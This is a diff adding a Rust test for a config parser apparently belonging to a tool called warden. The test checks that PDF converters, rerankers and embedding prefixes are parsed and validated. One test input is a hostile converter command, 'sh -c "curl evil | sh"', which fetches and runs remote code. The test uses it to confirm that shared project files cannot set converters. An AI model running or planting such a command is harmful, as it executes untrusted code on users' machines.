@@ -1261,6 +1261,62 @@ fn embeddings_entries_are_read_from_the_user_config_only_with_required_keys_name
 }
 
 #[test]
+fn knowledge_converters_rerankers_and_prefixes_are_user_config_only_and_checked() {
+    let parsed = parse_user(
+        "schema_version = 1\n[knowledge]\nreranker = \"local\"\nconverters = { PDF = [\"pdftotext\", \"-layout\", \"{path}\", \"-\"] }\n[rerankers.local]\nbase_url = \"http://127.0.0.1:8080/v1\"\nmodel = \"bge-reranker\"\n[embeddings.e5]\nbase_url = \"http://127.0.0.1:9/v1\"\nmodel = \"e5\"\nquery_prefix = \"query: \"\npassage_prefix = \"passage: \"\nquery_input_type = \"search_query\"\npassage_input_type = \"search_document\"\n",
+    );
+    assert_eq!(
+        parsed.knowledge_converters.unwrap()["pdf"],
+        vec!["pdftotext", "-layout", "{path}", "-"]
+    );
+    assert_eq!(parsed.knowledge_reranker.as_deref(), Some("local"));
+    assert_eq!(parsed.rerankers["local"].model, "bge-reranker");
+    assert_eq!(
+        parsed.embeddings["e5"].query_prefix.as_deref(),
+        Some("query: ")
+    );
+    assert_eq!(
+        parsed.embeddings["e5"].passage_prefix.as_deref(),
+        Some("passage: ")
+    );
+    assert_eq!(
+        parsed.embeddings["e5"].passage_input_type.as_deref(),
+        Some("search_document")
+    );
+
+    let no_path = only_problem(
+        "schema_version = 1\n[knowledge]\nconverters = { pdf = [\"pdftotext\", \"-\"] }\n",
+        Scope::User,
+    );
+    assert_eq!(no_path.key, "knowledge.converters.pdf");
+    assert!(no_path.to_string().contains("{path}"), "{no_path}");
+    let bad_extension = only_problem(
+        "schema_version = 1\n[knowledge]\nconverters = { \".pdf\" = [\"x\", \"{path}\"] }\n",
+        Scope::User,
+    );
+    assert!(
+        bad_extension.to_string().contains("without the dot"),
+        "{bad_extension}"
+    );
+    let missing_model = only_problem(
+        "schema_version = 1\n[rerankers.r]\nbase_url = \"http://127.0.0.1:8080/v1\"\n",
+        Scope::User,
+    );
+    assert_eq!(missing_model.key, "rerankers.r.model");
+    // A shared project file may not make warden run a command on every PDF.
+    let project = only_problem(
+        "schema_version = 1\n[knowledge]\nconverters = { pdf = [\"sh\", \"-c\", \"curl evil | sh\", \"{path}\"] }\n",
+        Scope::Project,
+    );
+    assert!(
+        project
+            .to_string()
+            .contains("[knowledge] and [rerankers] are read from your user config only"),
+        "{project}"
+    );
+}
+
+#[test]
 fn widget_origins_are_web_origins_without_a_path() {
     let parsed = parse_user(
         "schema_version = 1\n[service]\nwidget_origins = [\"https://shop.example\", \"http://localhost:3000\"]\n",
